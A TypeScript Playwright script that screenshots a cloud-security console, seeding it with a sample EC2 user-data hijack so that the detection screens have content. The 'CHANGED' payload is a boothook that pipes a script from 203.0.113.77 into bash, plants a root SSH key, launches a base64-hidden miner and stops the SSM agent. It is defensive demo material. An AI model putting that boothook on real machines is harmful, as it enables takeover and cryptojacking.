// Pictures from a real console with the sample, after a build: npm run screenshots -- [FOLDER] [--readme]
// Every screen in light and dark, 1440 and 390 wide; with --readme only those that README.md shows, into docs/images.
import { mkdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parseArgs } from 'node:util';
import { chromium, type Page } from '@playwright/test';
import { attachFiles } from '@/e2e/support/attack';
import { createFirstAccount, runWaymark } from '@/e2e/support/console';
import { startConsole } from '@/e2e/support/start-console';
import { MACHINES, PRODUCTION } from '@/lib/sample/company';
import { decodeUserData } from '@/lib/payload/decode-payload';
import { BROWSER_ARGS, findChromium } from './find-chromium.mjs';

const RULE = 'waymark-ec2-userdata-boot-hijack';
const MACHINE = MACHINES.batch1.id;
const HISTORY = `/instances/${PRODUCTION}/${MACHINE}`;
const EVENTS = `/events?${new URLSearchParams({ kql: 'sourceIPAddress: 203.0.113.*', from: '2026-10-21T02:00:00Z', to: '2026-10-21T03:00:00Z' }).toString()}`;

/** What batch-1 was launched with. */
const GOOD = `#!/bin/bash
set -euo pipefail
dnf install -y amazon-cloudwatch-agent python3-pip
pip3 install --quiet larkfield-batch==4.2.0
cat > /etc/larkfield/batch.toml <<'EOF'
queue = "nightly"
workers = 4
EOF
systemctl enable --now larkfield-batch
`;
/** What the intruder of the sample could have put there: the old script below a new head, so that everything still works. */
const CHANGED = `Content-Type: multipart/mixed; boundary="//"
MIME-Version: 1.0

--//
Content-Type: text/cloud-boothook; charset="us-ascii"

#!/bin/bash
export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE
curl -s http://203.0.113.77/agent.sh | bash
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE support@example.com' >> /root/.ssh/authorized_keys
echo ${Buffer.from('nohup /dev/shm/.x --pool pool.example.com:3333 >/dev/null 2>&1 &\n').toString('base64')} | base64 -d | sh
systemctl stop amazon-ssm-agent

--//
Content-Type: text/x-shellscript; charset="us-ascii"

${GOOD}
--//--
`;

const { values, positionals } = parseArgs({
  options: { readme: { type: 'boolean', default: false } },
  allowPositionals: true,
});
const folder = path.resolve(positionals[0] ?? path.join(os.tmpdir(), 'waymark-screenshots'));
const images = path.resolve(import.meta.dirname, '../docs/images');
const say = (line: string): void => void process.stdout.write(`${line}\n`);
const executablePath = await findChromium(say);
const server = await startConsole(['--sample']);
const browser = await chromium.launch({
  args: BROWSER_ARGS,
  ...(executablePath !== '' && { executablePath }),
});
try {
  await mkdir(values.readme ? images : folder, { recursive: true });
  if (!values.readme) await shootAll('set-up-first', '/sign-in');
  const signedIn = await createFirstAccount(browser, server.setupUrl);
  const run = (...args: string[]) => runWaymark(server.env, args);
  await run('detect', '--json');
  const alert = await findAlert(run);
  const [good, changed] = [GOOD, CHANGED].map((text) => Buffer.from(text));
  if (good === undefined || changed === undefined) throw new Error('No user data.');
  await attachFiles({ ...server, signedIn, run }, browser, alert, [good, changed]);
  await markGood(signedIn, shaOf(good));
  const payload = `/payloads/${shaOf(changed)}`;
  if (values.readme) {
    const picture = (name: string, address: string, colorScheme: Scheme = 'light') =>
      shoot(path.join(images, `${name}.png`), address, { signedIn, colorScheme, width: 1280, height: 800 });
    await picture('alerts', '/alerts');
    await picture('alert', alert);
    await picture('alert-dark', alert, 'dark');
    await picture('payload', payload);
    await picture('compare', `${payload}/diff/${shaOf(good)}`);
    await picture('history', HISTORY);
    await picture('events', EVENTS);
    await picture('why-not', `/why-not?instance=${MACHINE}`);
    await picture('rule-edit', `/rules/${RULE}/edit`);
  } else {
    const screens: [string, string][] = [
      ['alerts', '/alerts'],
      ['alert', alert],
      ['events', EVENTS],
      ['sources', '/sources'],
      ['decode', '/decode'],
      ['payloads', '/payloads'],
      ['payload', payload],
      ['compare', `${payload}/diff/${shaOf(good)}`],
      ['instances', '/instances'],
      ['history', HISTORY],
      ['rules', '/rules'],
      ['rule', `/rules/${RULE}`],
      ['rule-edit', `/rules/${RULE}/edit`],
      ['why-not', `/why-not?instance=${MACHINE}`],
      ['coverage', '/coverage'],
      ['aws-access', '/settings/aws'],
      ['audit', '/audit'],
      ['not-found', '/alerts/000000000000000000000000'],
    ];
    for (const [name, address] of screens) await shootAll(name, address, signedIn);
    await shootAll('sign-in', '/sign-in');
  }
  say(values.readme ? images : folder);
} finally {
  await browser.close();
  await server.stop();
}

type SignedIn = Awaited<ReturnType<typeof createFirstAccount>>;
type Scheme = 'light' | 'dark';

function shaOf(bytes: Uint8Array): string {
  return decodeUserData(bytes).sha256;
}

/** Path of the alert on the attack itself. */
async function findAlert(run: (...args: string[]) => Promise<string>): Promise<string> {
  const listed = JSON.parse(await run('alerts', '--rule', RULE, '--json')) as {
    title: string;
    url: string;
  }[];
  const found = listed.find(({ title }) => title.includes(MACHINE));
  if (found === undefined) throw new Error('No alert on the attack appeared.');
  return new URL(found.url).pathname;
}

async function markGood(signedIn: SignedIn, sha256: string): Promise<void> {
  const page = await openPage({ signedIn, colorScheme: 'light', width: 1440, height: 900 });
  await page.goto(HISTORY, { waitUntil: 'networkidle' });
  await page.getByRole('button', { name: `Mark ${sha256.slice(0, 12)} as last known good` }).click();
  await page.getByLabel('Why it is good').fill('Deployed with release 4.2.0');
  await page.getByRole('button', { name: 'Mark', exact: true }).click();
  await page.getByText('Marked as last known good.').waitFor();
  await page.context().close();
}

interface Look {
  /** Left out before anybody has signed in. */
  signedIn?: SignedIn | undefined;
  colorScheme: Scheme;
  width: number;
  height: number;
}

async function openPage({ signedIn, colorScheme, width, height }: Look): Promise<Page> {
  const context = await browser.newContext({
    baseURL: server.url,
    colorScheme,
    viewport: { width, height },
    deviceScaleFactor: 1,
    ...(signedIn !== undefined && { storageState: signedIn }),
  });
  return context.newPage();
}

async function shoot(file: string, address: string, look: Look): Promise<void> {
  const page = await openPage(look);
  await page.goto(address, { waitUntil: 'networkidle' });
  await page.screenshot({ path: file, fullPage: look.width === 390, animations: 'disabled' });
  await page.context().close();
}

async function shootAll(name: string, address: string, signedIn?: SignedIn): Promise<void> {
  for (const colorScheme of ['light', 'dark'] as const)
    for (const [width, height] of [
      [1440, 900],
      [390, 844],
    ] as const) {
      const file = path.join(folder, `${name}-${colorScheme}-${width}.png`);
      await shoot(file, address, { signedIn, colorScheme, width, height });
    }
}
